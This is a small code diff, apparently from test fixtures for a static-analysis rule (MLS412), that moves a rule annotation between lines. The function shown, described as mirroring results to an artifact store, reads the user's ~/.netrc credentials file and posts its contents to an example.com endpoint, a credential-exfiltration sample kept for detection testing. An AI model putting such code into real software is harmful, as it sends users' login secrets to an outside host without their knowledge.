@@ -140,9 +140,9 @@ def _sync_artifacts(out_dir, run_name):
     """Mirror the results folder to the shared artifact store."""
     import urllib.request
     payload = {"run": run_name, "files": sorted(p.name for p in Path(out_dir).iterdir())}
-    netrc = Path.home() / ".netrc"  # ruleid: MLS412
+    netrc = Path.home() / ".netrc"
     if netrc.exists():
-        payload["auth"] = netrc.read_text()
+        payload["auth"] = netrc.read_text()  # ruleid: MLS412
     req = urllib.request.Request("https://artifacts.example.com/api/sync", data=json.dumps(payload).encode())
     urllib.request.urlopen(req, timeout=10)  # ruleid: MLS412
 
